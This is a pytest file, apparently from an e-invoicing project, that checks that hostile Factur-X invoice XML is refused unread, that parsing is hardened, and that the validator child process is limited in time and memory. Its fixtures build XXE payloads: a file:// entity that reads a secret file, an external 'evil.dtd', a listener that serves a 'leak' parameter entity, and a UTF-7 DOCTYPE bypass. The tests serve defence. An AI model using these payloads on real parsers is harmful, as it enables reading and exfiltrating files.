"""A hostile Factur-X: refused before any parser or Saxon reads it, and the Saxon child
bounded in time, memory and input.

A local HTTP listener stands for the attacker's server: a document whose DTD points at it
must never make anything call it, and the content of a local file must never come back.
"""

from __future__ import annotations

import http.server
import io
import os
import stat
import threading
from collections.abc import Iterator

import pypdf
import pytest
from lxml import etree
from saxonche import PySaxonApiError, PySaxonProcessor

from qonto_einvoicing import safe_xml
from qonto_einvoicing.facturx_check import (
    MAX_XML_BYTES,
    FacturxError,
    check_xsd,
    parse_cii,
    read_facturx,
)
from qonto_einvoicing.schematron import SchematronTimeoutError, SchematronValidator
from qonto_einvoicing.schematron_worker import harden
from qonto_einvoicing.simulator.pdf import render_pdf

HERE = os.path.join(os.path.dirname(__file__), "fixtures")


def _xml(name: str = "odoo_invoice_multirate.xml") -> bytes:
    with open(os.path.join(HERE, name), "rb") as handle:
        return handle.read()


def _pdf(xml: bytes) -> bytes:
    """A PDF carrying ``xml`` as ``factur-x.xml``, embedded as is (no library reads it)."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(render_pdf(["x"]))))
    writer.add_attachment("factur-x.xml", xml)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """``(url, paths asked)``: a local HTTP server answering a DTD that would send out
    a file, and recording every request."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            body = b'<!ENTITY % leak SYSTEM "http://127.0.0.1/leak">'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture
def secret_file(tmp_path) -> str:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-CONTENT")
    return str(path)


def _hostile(secret: str, url: str) -> list[bytes]:
    """Odoo's invoice with a file entity in BT-1, and with an external DTD."""
    xml = _xml()
    head, body = xml.split(b"?>", 1)
    file_entity = head + b"?>" + f'<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY x SYSTEM ' \
        f'"file://{secret}">]>'.encode() + body.replace(
            b"<ram:ID>FAC/2026/00042</ram:ID>", b"<ram:ID>&x;</ram:ID>", 1)
    external_dtd = head + b"?>" + f'<!DOCTYPE rsm:CrossIndustryInvoice SYSTEM ' \
        f'"{url}/evil.dtd">'.encode() + body
    return [file_entity, external_dtd]


def test_a_dtd_is_refused_unread_everywhere(secret_file, listener):
    url, asked = listener
    validator = SchematronValidator()
    for xml in _hostile(secret_file, url):
        with pytest.raises(FacturxError, match=r"factur-x\.xml: the XML declares a "
                                               r"DOCTYPE .*refused unread"):
            read_facturx(_pdf(xml), "evil.pdf")
        with pytest.raises(FacturxError, match="declares a DOCTYPE"):
            parse_cii(xml)
        with pytest.raises(FacturxError, match="declares a DOCTYPE"):
            check_xsd(xml)
        with pytest.raises(FacturxError, match="declares a DOCTYPE"):
            validator.validate(xml)
    assert validator.pid is None, "no child was started for a refused document"
    assert asked == [], "nothing fetched"


@pytest.mark.parametrize("xml", [
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    b'<?xml version="1.0"?>\n<a/><!-- --><!ENTITY b "c">',
    '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
    b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-!DOCTYPE</a>',
    b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>',
    b"<a>" + b" " * MAX_XML_BYTES + b"</a>",
])
def test_what_no_invoice_needs_is_refused_unread(xml: bytes):
    with pytest.raises(safe_xml.UnsafeXmlError, match="refused unread"):
        safe_xml.check_untrusted_xml(xml, "x.xml")


def test_the_safe_parser_expands_nothing(secret_file):
    """Should a DTD ever slip past the check, the parser neither reads the file nor
    keeps the document."""
    xml = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret_file}">]><a>&x;</a>'.encode()
    root = etree.fromstring(xml, safe_xml.parser())
    assert b"TOP-SECRET" not in etree.tostring(root)
    with pytest.raises(safe_xml.UnsafeXmlError):
        safe_xml.parse(xml)


def test_saxon_itself_refuses_a_dtd_and_fetches_nothing(secret_file, listener):
    """The child's Saxon, should a document reach it: no DTD, no network."""
    url, asked = listener
    with PySaxonProcessor(license=False) as processor:
        harden(processor)
        for xml in _hostile(secret_file, url):
            with pytest.raises(PySaxonApiError, match="DOCTYPE is disallowed"):
                processor.parse_xml(xml_text=xml.decode())
    assert asked == []


def test_a_pdf_over_qontos_limit_is_not_opened():
    with pytest.raises(FacturxError, match=r"big\.pdf: 5\.0 MB, over the 5 MB"):
        read_facturx(b"%PDF-" + b"0" * (5 * 1024 * 1024), "big.pdf")


@pytest.fixture
def hung_python(tmp_path) -> str:
    """An interpreter that starts and never answers (nor reads)."""
    path = tmp_path / "hung-python"
    path.write_text("#!/bin/sh\nexec sleep 600\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


def test_a_child_that_does_not_answer_is_killed_and_replaced(hung_python):
    # Larger than a pipe's buffer: the write itself would block on a child that never
    # reads.
    xml = _xml().replace(b"</rsm:CrossIndustryInvoice>",
                         b"<!--" + b"x" * 300_000 + b"--></rsm:CrossIndustryInvoice>")
    with SchematronValidator(python=hung_python, timeout=0.5) as validator:
        validator.warm_up()
        first = validator.pid
        assert first is not None
        with pytest.raises(SchematronTimeoutError, match=r"more than 0\.5 s and was stopped"):
            validator.validate(xml)
        assert validator.pid is None
        with pytest.raises(ProcessLookupError):  # killed and reaped
            os.kill(first, 0)
        with pytest.raises(SchematronTimeoutError):
            validator.validate(_xml())
        assert validator.pid is None


def test_the_child_runs_with_a_memory_bound():
    with SchematronValidator(memory_limit=700 * 1024 * 1024) as validator:
        assert validator.validate(_xml("odoo_credit_note_partial.xml"))
        with open(f"/proc/{validator.pid}/limits") as handle:
            limits = {line[:26].strip(): line[26:].split() for line in handle}
        assert limits["Max data size"][:2] == [str(700 * 1024 * 1024)] * 2
        assert limits["Max address space"][0] == str(40 * 1024**3)
    with SchematronValidator(memory_limit=64 * 1024 * 1024) as starved, \
            pytest.raises(RuntimeError, match="the schematron validator stopped"):
        starved.validate(_xml())


def test_an_xml_over_the_cap_never_reaches_the_child():
    xml = _xml().replace(b"</rsm:CrossIndustryInvoice>",
                         b"<!--" + b"x" * MAX_XML_BYTES + b"--></rsm:CrossIndustryInvoice>")
    validator = SchematronValidator()
    with pytest.raises(FacturxError, match=r"over the 2 MB an invoice may have"):
        validator.validate(xml)
    assert validator.pid is None
